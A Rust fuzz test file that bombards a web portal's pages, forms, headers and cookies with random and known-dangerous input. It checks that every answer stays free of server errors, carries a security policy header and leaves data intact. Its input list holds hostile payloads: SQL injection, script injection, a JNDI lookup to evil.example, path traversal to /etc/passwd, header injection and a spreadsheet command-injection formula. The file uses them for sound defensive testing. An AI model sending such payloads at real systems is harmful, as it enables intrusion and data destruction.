//! What strangers send: anything at all, anywhere. Whatever it is, it gets an answer, the answer is no fault of the
//! portal's, and afterwards every invariant holds.

use std::collections::BTreeMap;

use futures_util::future::join_all;
use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::TestRunner;
use reqwest::Method;

use crate::support::invariants;
use crate::support::on_both;
use crate::support::portal::Portal;
use crate::support::routes;
use crate::support::sql::{VISITS, assert_same};
use crate::support::visitor::{Form, Visitor};
use crate::support::walk;

/// How many requests of each sort are sent by each visitor.
const CASES: usize = 120;
/// How many of them at a time.
const AT_ONCE: usize = 8;

/// Text that has done harm somewhere.
const KNOWN_TO_HURT: &[&str] = &[
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nSet-Cookie: evil=1",
    "\u{202E}live",
    "\u{200B}",
    "\u{FEFF}",
    "\u{FFFD}",
    "\u{10FFFF}",
    "e\u{301}\u{301}\u{301}",
    "' OR 1=1 --",
    "\"; DROP TABLE customers; --",
    "%",
    "_",
    "\\",
    "%%%__\\\\",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "{ $name }",
    "${jndi:ldap://evil.example}",
    "../../../../etc/passwd",
    "//evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "-1",
    "0",
    "366",
    "9223372036854775807",
    "9223372036854775808",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "0x10",
    "+1",
    "١٢٣",
    "2026-13-45",
    "0000-00-00",
    "-9999-01-01",
    "+262143-12-31",
    "262144-01-01",
    "9999-12-31",
    "2026-02-29",
    "active",
    "none",
    "mail",
    "en",
    "xx",
    "a@b",
    "rosa@rossi.example",
    "\"a b\"@example.com",
    "a@b.example, c@d.example",
    "a@[127.0.0.1]",
    "ä@ö.example",
    "00000000-0000-7000-8000-000000000000",
    "true",
    "null",
    "[]",
    "=cmd|' /C calc'!A0",
];

fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        5 => proptest::sample::select(KNOWN_TO_HURT).prop_map(str::to_owned),
        3 => any::<String>(),
        2 => "[A-Za-z0-9_-]{1,80}",
        1 => "[0-9]{1,25}",
        1 => (1_usize..30_000).prop_map(|length| "x".repeat(length)),
    ]
}

/// The same text with something that cannot stand in a header's value taken out.
fn in_a_header(text: &str) -> Vec<u8> {
    text.bytes()
        .filter(|byte| *byte >= 32 && *byte != 127)
        .take(3000)
        .collect()
}

fn encoded(pairs: &[(String, String)]) -> String {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(pairs)
        .finish()
}

/// Chance that can be repeated.
struct Chance(TestRunner);

impl Chance {
    fn text(&mut self) -> String {
        text().new_tree(&mut self.0).unwrap().current()
    }

    fn below(&mut self, end: usize) -> usize {
        (0..end).new_tree(&mut self.0).unwrap().current()
    }

    fn one_of<'l, T>(&mut self, list: &'l [T]) -> &'l T {
        &list[self.below(list.len())]
    }
}

/// The addresses of what the portal shows, with anything in the place of their parameters and behind them.
fn addresses(chance: &mut Chance, portal: &Portal) -> Vec<String> {
    const QUERIES: &[&str] = &[
        "q",
        "service",
        "privileges",
        "sort",
        "after",
        "before",
        "from",
        "to",
        "partner",
        "customer",
        "action",
        "next",
        "invitation",
        "language",
        "page",
        "status",
        "month",
        "unknown",
    ];
    let shown: Vec<routes::Route> = routes::all()
        .into_iter()
        .filter(|route| route.shows)
        .collect();
    (0..CASES)
        .map(|_| {
            let route = *chance.one_of(&shown);
            let mut path = if chance.below(3) == 0 {
                let anything = chance.text();
                let anything: String = form_urlencoded::byte_serialize(anything.as_bytes())
                    .take(30)
                    .collect();
                let parts = route.path.split('/').map(|part| {
                    if part.starts_with('{') {
                        anything.as_str()
                    } else {
                        part
                    }
                });
                parts.collect::<Vec<_>>().join("/")
            } else {
                route.filled(portal)
            };
            let pairs: Vec<(String, String)> = (0..chance.below(4))
                .map(|_| ((*chance.one_of(QUERIES)).to_owned(), chance.text()))
                .map(|(name, value)| (name, value.chars().take(2000).collect()))
                .collect();
            if !pairs.is_empty() {
                path = format!("{path}?{}", encoded(&pairs));
            }
            path
        })
        .collect()
}

/// The forms that a visitor is shown, by where they go.
async fn forms(portal: &Portal, visitor: &Visitor) -> BTreeMap<String, Form> {
    let seeds = routes::all()
        .into_iter()
        .filter(|route| route.shows)
        .map(|route| route.filled(portal));
    let mut forms = BTreeMap::new();
    for (_, page) in walk::from(visitor, seeds).await.pages {
        for action in page.attributes("form[method=post]", "action") {
            let form = page.form(&action);
            forms.entry(action).or_insert(form);
        }
    }
    forms
}

async fn send(requests: Vec<(String, reqwest::RequestBuilder)>) {
    let mut requests = requests.into_iter();
    loop {
        let some: Vec<_> = requests.by_ref().take(AT_ONCE).collect();
        if some.is_empty() {
            return;
        }
        join_all(some.into_iter().map(|(what, request)| async move {
            let answer = request
                .send()
                .await
                .unwrap_or_else(|error| panic!("{what}: {error}"));
            let status = answer.status();
            assert!(
                answer.headers().contains_key("content-security-policy"),
                "{what}: {status}"
            );
            let body = answer
                .text()
                .await
                .unwrap_or_else(|error| panic!("{what}: {error}"));
            assert!(!status.is_server_error(), "{what}: {status}\n{body}");
        }))
        .await;
    }
}

const WHO: [Option<&str>; 4] = [
    None,
    Some("ada@aurora.example"),
    Some("rosa@rossi.example"),
    Some("operator@delega.example"),
];

on_both! {
    // asvs: 1.2.4, 2.2.1
    async fn whatever_is_asked_gets_an_answer(portal: Portal) {
        let mut chance = Chance(TestRunner::deterministic());
        let before = portal.sql().dump(&VISITS);
        for who in WHO {
            let visitor = match who {
                Some(email) => portal.signed_in(email).await,
                None => portal.visitor(),
            };
            let requests = addresses(&mut chance, &portal)
                .into_iter()
                .map(|path| {
                    let languages = in_a_header(&chance.text());
                    let request = visitor.request(Method::GET, &path).header("Accept-Language", languages);
                    (format!("GET {path} by {who:?}"), request)
                })
                .collect();
            send(requests).await;
        }
        let after = portal.sql().dump(&VISITS);
        assert_same(&before, &after, "asking changes nothing");
    }

    async fn whatever_a_browser_carries_gets_an_answer(portal: Portal) {
        let mut chance = Chance(TestRunner::deterministic());
        let client = reqwest::Client::new();
        let requests = (0..CASES)
            .map(|_| {
                let cookies: Vec<Vec<u8>> = ["session", "visitor", "language", "flash", "__Host-session", "unknown"]
                    .iter()
                    .map(|name| [name.as_bytes(), b"=", &in_a_header(&chance.text())].concat())
                    .collect();
                let what = String::from_utf8_lossy(&cookies.concat()).into_owned();
                let request = client
                    .get(format!("{}/sign-in", portal.origin))
                    .header("Cookie", cookies.join(b"; ".as_slice()))
                    .header("User-Agent", in_a_header(&chance.text()))
                    .header("Sec-Fetch-Mode", in_a_header(&chance.text()));
                (what, request)
            })
            .collect();
        send(requests).await;
    }

    // asvs: 1.2.4, 1.4.2, 2.2.1, 2.2.2
    async fn whatever_is_posted_gets_an_answer(portal: Portal) {
        let mut chance = Chance(TestRunner::deterministic());
        for who in WHO {
            let visitor = match who {
                Some(email) => portal.signed_in(email).await,
                None => portal.visitor(),
            };
            // Who signs out sends nothing more that counts.
            let mut forms = forms(&portal, &visitor).await;
            forms.retain(|action, _| action != "/sign-out" && !action.contains("/sessions") && !action.contains("password"));
            let actions: Vec<_> = forms.into_iter().collect();
            let requests = (0..CASES)
                .map(|_| {
                    // As the page has it, but for a few fields; now and then all of them.
                    let (action, form) = chance.one_of(&actions).clone();
                    let few = chance.below(4);
                    let mut pairs = form.fields.clone();
                    for name in form.names().iter().filter(|name| *name != "csrf") {
                        if few == 0 || chance.below(form.names().len()) < few {
                            pairs.retain(|(known, _)| known != name);
                            pairs.push((name.clone(), chance.text()));
                        }
                    }
                    if chance.below(12) == 0 {
                        pairs.push((chance.text(), chance.text()));
                    }
                    let shown: Vec<String> = pairs
                        .iter()
                        .map(|(name, value)| format!("{name}={:?}", value.chars().take(80).collect::<String>()))
                        .collect();
                    let request = visitor
                        .request(Method::POST, &action)
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .header("Sec-Fetch-Site", "same-origin")
                        .body(encoded(&pairs));
                    (format!("POST {action} by {who:?} with {}", shown.join(" ")), request)
                })
                .collect();
            send(requests).await;
        }
        invariants::check(&mut portal.sql());
    }

    // asvs: 1.1.1, 15.3.5
    async fn whatever_bytes_are_posted_get_an_answer(portal: Portal) {
        let mut chance = Chance(TestRunner::deterministic());
        let bytes = proptest::collection::vec(any::<u8>(), 0..400);
        let visitor = portal.visitor();
        visitor.open("/sign-in").await;
        let requests = (0..CASES)
            .map(|_| {
                let body = bytes.new_tree(&mut chance.0).unwrap().current();
                let request = visitor
                    .request(Method::POST, "/sign-in")
                    .header("Content-Type", "application/x-www-form-urlencoded")
                    .header("Sec-Fetch-Site", "same-origin")
                    .body(body.clone());
                (format!("{body:?}"), request)
            })
            .collect();
        send(requests).await;
    }
}
